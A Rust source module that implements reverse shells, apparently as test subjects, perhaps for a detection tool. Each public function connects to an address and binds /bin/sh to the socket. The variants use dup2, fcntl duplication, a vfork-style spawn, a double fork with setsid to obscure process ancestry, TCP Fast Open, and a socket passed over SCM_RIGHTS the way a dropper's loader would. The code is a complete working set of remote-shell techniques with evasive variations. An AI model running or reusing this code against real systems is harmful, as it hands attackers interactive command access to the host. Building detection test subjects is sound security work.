//! Shells whose stdio is the connection itself, brought about in different ways.

use crate::{Outcome, failed};
use rustix::fd::{AsFd, BorrowedFd, OwnedFd};
use rustix::io::fcntl_dupfd_cloexec;
use rustix::net::{
    AddressFamily, RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, SendAncillaryBuffer, SendAncillaryMessage,
    SendFlags, SocketFlags, SocketType, recvmsg, sendmsg, sendto, socket_with, socketpair,
};
use rustix::process::{Pid, WaitOptions, waitpid};
use std::io::{IoSlice, IoSliceMut};
use std::mem::MaybeUninit;
use std::net::TcpStream;
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};
use std::time::Duration;

/// `MSG_FASTOPEN` of linux/socket.h, which rustix does not name.
const MSG_FASTOPEN: u32 = 0x2000_0000;

fn connect(spec: &str) -> Result<OwnedFd, String> {
    let addr = subjects::addr::resolve(spec).map_err(|err| err.to_string())?;
    TcpStream::connect(addr).map(OwnedFd::from).map_err(failed(spec))
}

/// Replaces this process by a shell; returns only the failure.
fn exec_shell() -> Outcome {
    Err(failed("/bin/sh")(Command::new("/bin/sh").exec()))
}

fn put_on_stdio(fd: impl AsFd) -> Outcome {
    let what = failed("dup2");
    rustix::stdio::dup2_stdin(&fd).map_err(&what)?;
    rustix::stdio::dup2_stdout(&fd).map_err(&what)?;
    rustix::stdio::dup2_stderr(&fd).map_err(&what)
}

/// connect, dup2 three times, exec.
pub fn dup2(spec: &str) -> Outcome {
    put_on_stdio(connect(spec)?)?;
    exec_shell()
}

/// The same without dup, dup2 or dup3: close(n), then fcntl(F_DUPFD) lands on n.
pub fn fdup(spec: &str) -> Outcome {
    let socket = connect(spec)?;
    // SAFETY: descriptors 0-2 are owned by nobody in this program: std's handles name them by number
    // only, and nothing is printed between here and the exec. A failed close leaves nothing to undo.
    unsafe {
        (0..3).for_each(|fd| {
            libc::close(fd);
        })
    };
    let mut copies = Vec::new();
    for _ in 0..3 {
        let copy = fcntl_dupfd_cloexec(&socket, 0).map_err(failed("F_DUPFD"))?;
        rustix::io::fcntl_setfd(&copy, rustix::io::FdFlags::empty()).map_err(failed("F_SETFD"))?;
        copies.push(copy);
    }
    exec_shell()
}

/// The shell is a `CLONE_VM|CLONE_VFORK` child: std's spawn is `posix_spawn`, which clones that way and
/// does the dup2 in the child.
pub fn vfork(spec: &str) -> Outcome {
    let socket = connect(spec)?;
    let copy = || socket.try_clone().map(Stdio::from).map_err(failed("dup"));
    let mut child =
        Command::new("/bin/sh").stdin(copy()?).stdout(copy()?).stderr(copy()?).spawn().map_err(failed("/bin/sh"))?;
    child.wait().map(drop).map_err(failed("wait"))
}

/// fork, setsid, fork; the process in the middle exits, so the shell's ancestry leads to the reaper only.
pub fn double_fork(spec: &str) -> Outcome {
    // Resolved before the fork, so that a refused address is this process's failure.
    subjects::addr::resolve(spec).map_err(|err| err.to_string())?;
    if fork()?.is_some() {
        return Ok(());
    }
    rustix::process::setsid().map_err(failed("setsid"))?;
    if fork()?.is_some() {
        std::process::exit(0);
    }
    // Alarms are not inherited.
    subjects::life::end_after(subjects::life::LIMIT);
    // Time for the middle one to be gone.
    std::thread::sleep(Duration::from_millis(50));
    dup2(spec)
}

/// The child's pid in the parent, `None` in the child.
fn fork() -> Result<Option<Pid>, String> {
    // SAFETY: this program has one thread, so the child may do whatever the parent may.
    match unsafe { libc::fork() } {
        -1 => Err(failed("fork")(std::io::Error::last_os_error())),
        pid => Ok(Pid::from_raw(pid)),
    }
}

/// No connect(2): the first bytes open the connection.
pub fn fast_open(spec: &str) -> Outcome {
    let addr = subjects::addr::resolve(spec).map_err(|err| err.to_string())?;
    let family = if addr.is_ipv6() { AddressFamily::INET6 } else { AddressFamily::INET };
    let socket = socket_with(family, SocketType::STREAM, SocketFlags::empty(), None).map_err(failed("socket"))?;
    sendto(&socket, b"\n", SendFlags::from_bits_retain(MSG_FASTOPEN), &addr).map_err(failed(spec))?;
    put_on_stdio(socket)?;
    exec_shell()
}

/// The process that becomes the shell never connects: it is handed the socket (`SCM_RIGHTS`).
pub fn handed_over(spec: &str) -> Outcome {
    let (near, far) = socketpair(AddressFamily::UNIX, SocketType::STREAM, SocketFlags::CLOEXEC, None)
        .map_err(failed("socketpair"))?;
    if let Some(child) = fork()? {
        drop(far);
        let socket = connect(spec)?;
        give(&near, socket.as_fd())?;
        // Stays, with the socket, as a dropper's loader would.
        return waitpid(Some(child), WaitOptions::empty()).map(drop).map_err(failed("wait"));
    }
    subjects::life::end_after(subjects::life::LIMIT);
    rustix::process::setsid().map_err(failed("setsid"))?;
    drop(near);
    put_on_stdio(take(&far)?)?;
    exec_shell()
}

fn give(channel: &OwnedFd, fd: BorrowedFd<'_>) -> Outcome {
    let fds = [fd];
    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = SendAncillaryBuffer::new(&mut space);
    if !control.push(SendAncillaryMessage::ScmRights(&fds)) {
        return Err("SCM_RIGHTS: no room".into());
    }
    sendmsg(channel, &[IoSlice::new(b"x")], &mut control, SendFlags::empty()).map(drop).map_err(failed("sendmsg"))
}

fn take(channel: &OwnedFd) -> Result<OwnedFd, String> {
    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut control = RecvAncillaryBuffer::new(&mut space);
    let mut byte = [0; 1];
    recvmsg(channel, &mut [IoSliceMut::new(&mut byte)], &mut control, RecvFlags::empty()).map_err(failed("recvmsg"))?;
    control
        .drain()
        .find_map(|message| match message {
            RecvAncillaryMessage::ScmRights(mut fds) => fds.next(),
            _ => None,
        })
        .ok_or_else(|| "SCM_RIGHTS: nothing came".into())
}
